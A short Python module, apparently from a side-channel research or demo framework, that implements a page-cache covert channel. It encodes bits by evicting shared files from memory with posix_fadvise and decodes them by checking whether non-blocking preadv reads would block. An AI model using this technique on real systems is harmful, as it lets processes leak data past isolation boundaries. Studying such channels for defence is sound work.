"""Drops some common files from memory and not others; in the next match what must be loaded is the
note.
"""

import os

from attack import attack, held, target, tell


@attack
def _():
    bits = ""
    for place, file in enumerate(target.commons):
        held.append(os.open(file, os.O_RDONLY))
        if target.message:
            os.pread(held[-1], 1, 0)
            if target.message[place] == "1":
                os.posix_fadvise(held[-1], 0, 0, os.POSIX_FADV_DONTNEED)
            continue
        try:
            os.preadv(held[-1], [bytearray(1)], 0, os.RWF_NOWAIT)
            bits += "0"
        except BlockingIOError:
            bits += "1"
    tell(bits)
